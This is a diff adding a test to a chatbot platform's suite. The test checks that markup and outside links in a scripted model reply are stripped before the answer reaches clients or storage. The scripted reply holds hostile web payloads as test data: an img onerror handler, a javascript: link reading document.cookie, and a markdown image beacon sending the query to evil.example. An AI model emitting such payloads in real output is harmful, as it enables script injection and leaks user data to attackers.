@@ -143,6 +143,24 @@ describe('chat with provider models', () => {
     expect((await auditOf(owner)).filter((e) => e.action === 'chat.answer_cut')).toHaveLength(2);
   });
 
+  it('sends no markup and no links but the documents’ own to any client of the stream', async () => {
+    const doc = `${HOURS}\nOpening times change in winter: see https://shop.example/winter-hours for them.\n`;
+    const owner = await botWith({ provider: 'openai', model: 'gpt-4.1-mini' }, doc);
+    fake.provider().script({
+      kind: 'reply',
+      text: 'We open at nine [1]. <img src=x onerror="alert(1)"> ![t](https://evil.example/log?q=hours) '
+        + '[Verify here](javascript:alert(document.cookie)) or https://evil.example/?c=1 <b>thanks</b>. Winter: https://shop.example/winter-hours.',
+    });
+    const reply = await ask(platform(), owner.publicId, 'When do you open?');
+    expect(reply.answer).toBe('We open at nine [1].  t (image removed) Verify here or (link removed) thanks. Winter: https://shop.example/winter-hours.');
+    expect(reply.text).not.toContain('evil.example');
+    expect(reply.text).not.toContain('javascript:');
+    expect(reply.text).not.toMatch(/<(img|b)\b/);
+    // What is kept is what was sent.
+    const stored = await owner.request<{ turns: Array<{ answer: string }> }>('GET', `/v1/bots/${owner.botId}/conversations/${reply.conversationId}`);
+    expect(stored.body.turns.map((t) => t.answer)).toEqual([reply.answer]);
+  });
+
   it('sends hostile documents only as escaped data, with the same system prompt as a clean bot', async () => {
     const clean = await botWith({ provider: 'openai', model: 'gpt-4.1-mini' });
     await ask(platform(), clean.publicId, 'When do you open?');
